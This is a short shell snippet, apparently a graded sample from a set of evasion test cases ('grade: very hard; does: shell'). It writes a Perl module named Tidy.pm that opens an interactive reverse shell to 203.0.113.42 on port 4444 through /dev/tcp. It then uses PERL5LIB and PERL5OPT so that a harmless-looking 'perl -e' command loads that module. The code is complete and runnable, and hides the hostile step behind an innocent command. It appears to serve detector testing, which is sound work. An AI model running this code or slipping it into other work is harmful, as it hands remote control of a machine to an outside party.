# evasion: PERL5OPT/PERL5LIB make an innocent "perl -e 1" load a module the script wrote, whose body runs a shell
# grade: very hard; does: shell
lib=$(mktemp -d)
cat >"$lib/Tidy.pm" <<'PM'
package Tidy;
system("/bin/sh", "-c", "sh -i >& /dev/tcp/203.0.113.42/4444 0>&1");
1;
PM
export PERL5LIB="$lib" PERL5OPT=-MTidy
perl -e 'print "perl ok\n"'
